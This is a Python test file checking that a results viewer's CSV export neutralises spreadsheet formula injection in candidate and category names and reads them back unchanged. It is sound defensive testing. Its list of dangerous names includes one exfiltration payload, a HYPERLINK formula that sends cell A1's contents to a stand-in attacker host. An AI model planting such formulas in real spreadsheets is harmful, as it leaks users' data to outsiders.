"""Formula injection: names a spreadsheet would run are written as text, and read back exactly."""

from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from resultsviewer.core.contest import Candidate, Category, Contest
from resultsviewer.core.errors import ContestError
from resultsviewer.core.formats import spreadsheet
from resultsviewer.core.formats.csv_safety import FORMULA_STARTS, spreadsheet_safe, spreadsheet_unescape

DANGEROUS = [
    "-Independent-",
    "=Green=",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 Party",
    "@SUM(A1:A9)",
    "-",
    "=",
    "'=already quoted",
    "''=twice quoted",
]
HARMLESS = ["O'Brien", "'Quoted' Party", "Labour", "Sinn Féin", "100% Party", "A-Team", "Smith = Jones", "'", "''"]


def test_dangerous_text_gets_one_apostrophe() -> None:
    assert spreadsheet_safe("-Independent-") == "'-Independent-"
    assert spreadsheet_safe("=Green=") == "'=Green="
    assert spreadsheet_safe("+1") == "'+1"
    assert spreadsheet_safe("@home") == "'@home"
    assert spreadsheet_safe("\tTab") == "'\tTab"
    assert spreadsheet_safe("\rCR") == "'\rCR"
    # Text that only looks escaped is escaped once more, or it would read back changed.
    assert spreadsheet_safe("'=x") == "''=x"


def test_harmless_text_is_left_alone() -> None:
    for text in HARMLESS:
        assert spreadsheet_safe(text) == text
        assert spreadsheet_unescape(text) == text


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " ", "1"]), max_size=8) | st.text(max_size=12))
def test_every_text_round_trips_and_is_never_a_formula(text: str) -> None:
    safe = spreadsheet_safe(text)
    assert spreadsheet_unescape(safe) == text
    assert not safe.startswith(FORMULA_STARTS)


def contest_named(candidates: list[str], categories: list[str]) -> Contest:
    return Contest(
        "Injection",
        [Candidate(name) for name in candidates],
        [Category(name) for name in categories],
        [[index + column for column in range(len(candidates))] for index in range(len(categories))],
    )


def test_the_csv_writer_guards_every_name_and_the_reader_restores_them() -> None:
    contest = contest_named(DANGEROUS + HARMLESS, ["=Green=", "-Independent-", "@North", "Plain", "'=x"])
    data = spreadsheet.dumps(contest)
    cells = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    header, rows = cells[0], cells[1:]
    # No cell a spreadsheet would run, anywhere in the file.
    for row in cells:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    assert "'-Independent-" in header and "'=Green=" in header and "O'Brien" in header
    assert [row[0] for row in rows] == ["'=Green=", "'-Independent-", "'@North", "Plain", "''=x"]

    again = spreadsheet.loads(data, "injection.csv")
    assert [c.name for c in again.candidates] == DANGEROUS + HARMLESS
    assert [c.name for c in again.categories] == ["=Green=", "-Independent-", "@North", "Plain", "'=x"]
    assert again.row(2) == contest.row(2)


def test_a_hand_written_csv_with_apostrophes_reads_as_typed() -> None:
    """Only the escape the writer adds is stripped: an apostrophe before ordinary text stays."""
    data = b"category,'Quoted' Party,'=Green=\n'North,1,2\n"
    contest = spreadsheet.loads(data, "hand.csv")
    assert [c.name for c in contest.candidates] == ["'Quoted' Party", "=Green="]
    assert contest.category(0).name == "'North"


NAMES = st.text(
    alphabet=st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp")) | st.sampled_from("'=+-@"), min_size=1, max_size=12
)


@settings(max_examples=300, deadline=None)
@given(st.lists(NAMES, min_size=1, max_size=4), st.lists(NAMES, min_size=1, max_size=4))
def test_any_names_round_trip_through_the_spreadsheet_csv(candidates: list[str], categories: list[str]) -> None:
    try:
        contest = contest_named(candidates, categories)
    except ContestError:
        return  # names the contest itself refuses (duplicates, blank, bidi controls)
    reserved = {"electorate", "weight", "rejected", "total", "category"}
    if {c.name.casefold() for c in contest.candidates} & reserved or {c.name.casefold() for c in contest.categories} & reserved:
        return  # header and row words of the format itself
    again = spreadsheet.loads(spreadsheet.dumps(contest), "names.csv")
    assert [c.name for c in again.candidates] == [c.name for c in contest.candidates]
    assert [c.name for c in again.categories] == [c.name for c in contest.categories]
